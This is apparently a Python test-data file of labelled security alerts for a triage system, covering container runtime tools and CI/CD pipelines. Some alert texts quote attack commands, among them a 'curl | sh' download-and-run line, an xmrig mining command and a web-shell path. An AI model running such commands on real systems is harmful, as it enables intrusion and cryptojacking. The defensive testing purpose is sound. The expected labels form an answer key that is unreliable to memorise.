"""Expansion split, part 6: container runtime security (Falco, Sysdig Secure, Aqua) and CI/CD systems
(GitHub Actions, GitLab CI, Jenkins): attacks through the pipeline and the pipeline's own trouble."""

from __future__ import annotations

from typing import Any

from tests.data.triage.expansion_common import (
    AVAIL,
    BEN,
    EXFIL,
    GENERIC,
    MAL,
    MALWARE,
    PERF,
    SUS,
    Expected,
    alert,
)
from tests.data.triage.labels import Case


def falco(n: int, rule: str, priority: str, output: str, fields: dict[str, Any], expected: Expected) -> Case:
    raw = {
        "rule": rule,
        "priority": priority,
        "output": output,
        "source": "syscall",
        "hostname": "fhe-k8s-node-4",
        "time": "2026-12-01T00:31:02.118Z",
        "output_fields": fields,
        "tags": ["container", "mitre_execution"],
    }
    severity = {"Emergency": "critical", "Critical": "critical", "Error": "high", "Warning": "medium"}.get(
        priority, "low"
    )
    return alert(f"exp-falco-{n:03d}", "Falco", expected, None, None, severity, "falco", raw)


def sysdig(n: int, name: str, rule: str, level: int, output: str, labels: dict[str, str], expected: Expected) -> Case:
    raw = {
        "name": name,
        "ruleName": rule,
        "ruleType": "RULE_TYPE_FALCO",
        "severity": level,
        "output": output,
        "labels": labels,
        "policyId": 10500 + n,
    }
    severity = "high" if level <= 3 else "medium" if level <= 5 else "low"
    return alert(f"exp-sysdig-{n:03d}", "Sysdig Secure", expected, f"Sysdig: {name}", output, severity, "sysdig", raw)


def aqua(n: int, control: str, action: str, image: str, description: str, expected: Expected, severity: str) -> Case:
    raw = {
        "control": control,
        "action": action,
        "image": image,
        "container": f"{image.split(':')[0]}-{n}",
        "host": "fhe-k8s-node-2",
        "category": "runtime",
    }
    return alert(
        f"exp-aqua-{n:03d}", "Aqua Security", expected, f"Aqua {action}: {control}", description, severity, "aqua", raw
    )


RUNTIME = [
    falco(
        1,
        "Detect crypto miners using the Stratum protocol",
        "Critical",
        "Possible miner running (command=xmrig -o stratum+tcp://pool.minexmr.com:4444 container=batch-etl-6f)",
        {"container.name": "batch-etl-6f", "k8s.ns.name": "data", "proc.cmdline": "xmrig -o stratum+tcp://..."},
        (MAL, MALWARE, ["isolate_host"]),
    ),
    falco(
        2,
        "Terminal shell in container",
        "Notice",
        "A shell was spawned in a container with an attached terminal (user=root container=orders-api-5c9d7 "
        "shell=bash parent=runc cmdline=bash)",
        {
            "container.name": "orders-api-5c9d7",
            "k8s.ns.name": "prod",
            "user.name": "root",
            "note": "matches a kubectl exec by the on-call engineer in the same minute",
        },
        (BEN, GENERIC, []),
    ),
    falco(
        3,
        "Read sensitive file untrusted",
        "Warning",
        "Sensitive file opened for reading by non-trusted program (file=/etc/shadow program=python3 "
        "container=report-render-2a parent=sh)",
        {"container.name": "report-render-2a", "fd.name": "/etc/shadow", "proc.pname": "sh"},
        (SUS, GENERIC, []),
    ),
    falco(
        4,
        "Drop and execute new binary in container",
        "Critical",
        "Executing binary not part of base image (proc.exepath=/tmp/kdevtmpfsi container=wp-frontend-1 parent=php-fpm)",
        {"container.name": "wp-frontend-1", "proc.exepath": "/tmp/kdevtmpfsi"},
        (MAL, MALWARE, ["isolate_host"]),
    ),
    sysdig(
        1,
        "Outbound connection to suspicious IP",
        "Outbound Connection to C2 Servers",
        2,
        "Outbound connection to 45.9.148.108:8080 from container invoice-worker (process python3).",
        {"kubernetes.pod.name": "invoice-worker-77c", "host.hostName": "fhe-k8s-node-1"},
        (MAL, MALWARE, ["isolate_host", "block_ip"]),
    ),
    sysdig(
        2,
        "Container drift detected",
        "Drift Detection",
        5,
        "New executable /usr/local/bin/helm written and run in the ci-tools pod (image ci-tools:2026.11).",
        {"kubernetes.pod.name": "ci-tools-0", "kubernetes.namespace.name": "ci"},
        (BEN, GENERIC, []),
    ),
    sysdig(
        3,
        "Large egress from database pod",
        "Unexpected outbound volume",
        3,
        "postgres-analytics-0 sent 27 GB to 3.121.44.90 (not an AWS service endpoint we use) in 2 hours.",
        {"kubernetes.pod.name": "postgres-analytics-0", "kubernetes.namespace.name": "analytics"},
        (SUS, EXFIL, ["notify"]),
    ),
    aqua(
        1,
        "Block container exec",
        "block",
        "fhe/orders-api:1.42.0",
        "Interactive exec blocked by the runtime policy 'prod-default' (user ci-bot).",
        (BEN, GENERIC, []),
        "low",
    ),
    aqua(
        2,
        "Drift prevention",
        "block",
        "fhe/wp-frontend:6.4",
        "Attempt to run /tmp/.ICE-unix/sshd, downloaded by php-fpm from 193.233.48.9, was blocked; the "
        "web shell that fetched it is still in /var/www/html/wp-content/uploads/up.php.",
        (MAL, MALWARE, ["isolate_host", "block_ip"]),
        "high",
    ),
    aqua(
        3,
        "Image assurance: critical vulnerabilities",
        "audit",
        "fhe/legacy-reports:0.9",
        "Image has 14 critical CVEs (OpenSSL, glibc); running in staging only.",
        (BEN, GENERIC, []),
        "medium",
    ),
    sysdig(
        4,
        "CPU throttling on pricing-engine",
        "Container CPU throttling > 50%",
        6,
        "pricing-engine pods throttled 72% of periods for 30 min (limit 500m); quote requests take 6-9 s.",
        {"kubernetes.pod.name": "pricing-engine-6b9f", "kubernetes.namespace.name": "prod"},
        (BEN, PERF, ["notify"]),
    ),
]


def github_actions(
    n: int, workflow: str, conclusion: str, repo: str, title: str, description: str, expected: Expected, severity: str
) -> Case:
    raw = {
        "action": "completed",
        "workflow_run": {"name": workflow, "conclusion": conclusion, "head_branch": "main", "run_number": 4100 + n},
        "repository": {"full_name": repo},
    }
    return alert(f"exp-gha-{n:03d}", "GitHub Actions", expected, title, description, severity, "github_actions", raw)


def gitlab(
    n: int, status: str, project: str, job: str, reason: str, description: str, expected: Expected, severity: str
) -> Case:
    raw = {
        "object_kind": "pipeline",
        "object_attributes": {"status": status, "ref": "main", "duration": 5400},
        "project": {"path_with_namespace": project},
        "builds": [{"name": job, "stage": "deploy", "status": status, "failure_reason": reason}],
    }
    return alert(
        f"exp-gitlab-{n:03d}",
        "GitLab CI",
        expected,
        f"Pipeline {status}: {project} ({job})",
        description,
        severity,
        "gitlab",
        raw,
    )


def jenkins(n: int, job: str, status: str, title: str, description: str, expected: Expected, severity: str) -> Case:
    raw = {
        "name": job,
        "build": {
            "number": 880 + n,
            "phase": "COMPLETED",
            "status": status,
            "full_url": f"https://jenkins.fernhill-energy.com/job/{job}/{880 + n}/",
        },
    }
    return alert(f"exp-jenkins-{n:03d}", "Jenkins", expected, title, description, severity, "jenkins", raw)


PIPELINES = [
    github_actions(
        1,
        "release",
        "success",
        "fernhill/customer-portal",
        "Secrets printed to workflow logs by a third-party action",
        "The pinned-by-tag action 'changed-files' was re-tagged upstream; our release run 4101 logs "
        "contain a base64 blob that decodes to the AWS and npm tokens of the repository.",
        (MAL, GENERIC, ["reset_credentials"]),
        "critical",
    ),
    github_actions(
        2,
        "nightly-e2e",
        "failure",
        "fernhill/meter-api",
        "nightly-e2e failed (3rd night in a row)",
        "Playwright tests time out against staging; staging DB was restored from a snapshot on Friday.",
        (BEN, GENERIC, []),
        "low",
    ),
    github_actions(
        3,
        "deploy-prod",
        "failure",
        "fernhill/customer-portal",
        "Production deploy blocked",
        "deploy-prod fails at 'terraform apply' (state lock held since 14:02); the customer portal "
        "hotfix for the login outage cannot be shipped.",
        (BEN, AVAIL, ["notify"]),
        "high",
    ),
    gitlab(
        1,
        "failed",
        "fernhill/ml/forecast",
        "train-gpu",
        "script_failure",
        "A merge request from a fork added a job to .gitlab-ci.yml that downloads and runs 'kthreaddk' on the "
        "shared GPU runner; the runner's CPU has been at 100% since.",
        (MAL, MALWARE, ["isolate_host"]),
        "high",
    ),
    gitlab(
        2,
        "running",
        "fernhill/platform/infra",
        "plan",
        "",
        "Pipelines wait 45-60 minutes for a runner; the autoscaling group hit its max of 4 runners.",
        (BEN, PERF, ["notify"]),
        "medium",
    ),
    jenkins(
        1,
        "ops/script-console-audit",
        "FAILURE",
        "Groovy script console used by unknown account 'jenkins-tmp'",
        "Script console executed 'curl -s http://80.66.88.207/x.sh | sh' as the Jenkins controller user; "
        "the account was created 10 minutes earlier through the unauthenticated CLI endpoint.",
        (MAL, MALWARE, ["isolate_host", "block_ip", "disable_user"]),
        "critical",
    ),
    jenkins(
        2,
        "backup/jenkins-home",
        "SUCCESS",
        "JENKINS_HOME backup copied 180 GB to the backup bucket",
        "Weekly job, scheduled every Sunday 01:00, destination s3://fhe-backups/jenkins/.",
        (BEN, EXFIL, []),
        "low",
    ),
    jenkins(
        3,
        "platform/build-agents",
        "UNSTABLE",
        "Builds queued 70 minutes: agents low on disk",
        "4 of 6 build agents are offline with 'disk space is below threshold of 1 GiB'; 38 builds waiting.",
        (BEN, PERF, ["notify"]),
        "medium",
    ),
]


CASES = [*RUNTIME, *PIPELINES]
